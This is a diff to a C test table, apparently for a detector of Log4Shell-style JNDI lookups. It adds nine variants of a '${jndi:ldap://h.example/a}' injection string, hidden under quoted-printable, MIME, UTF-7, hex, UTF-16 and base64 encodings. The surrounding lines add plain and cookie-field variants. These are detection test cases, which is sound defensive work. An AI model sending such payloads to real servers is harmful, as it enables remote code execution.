@@ -83,6 +83,15 @@ static const struct {
     {FIELD_PLAIN, "{\"a\":\"${\\u006andi:ldap://h.example/a}\"}", NAME}, /* JSON under a wrong label */
     {FIELD_PLAIN, "${\\u006andi:ldap://h.example/a}", ""},                /* nothing here undoes an escape */
     {FIELD_PLAIN, "${jn%64i:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "=24=7Bjndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "${jn=\r\ndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "=?utf-8?Q?=24=7Bjndi=3Aldap://h.example/a=7D?=", NAME},
+    {FIELD_PLAIN, "=?utf-8?B?JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=?=", NAME},
+    {FIELD_PLAIN, "+ACQAew-jndi:ldap://h.example/a+AH0-", NAME},
+    {FIELD_PLAIN, "id=247b6a6e64693a6c6461703a2f2f682e6578616d706c652f617d", NAME},
+    {FIELD_PLAIN, "a247B6A6E64693A6C6461703A2F2F682E6578616D706C652F617D", NAME},
+    {FIELD_PLAIN, "JAB7AGoAbgBkAGkAOgBsAGQAYQBwADoALwAvAGgALgBlAHgAYQBtAHAAbABlAC8AYQB9AA==", NAME},
+    {FIELD_PLAIN, "token=eyJ4IjoiXHUwMDI0XHUwMDdiam5kaTpsZGFwOi8vaC5leGFtcGxlL2F9In0", NAME},
     {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a%3bx}", "ldap://h/a;x"},
     {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a;x}", "ldap://h/a;x"},
     {FIELD_PLAIN, "${jndi:ldap://h/%41}", "ldap://h/%41"},
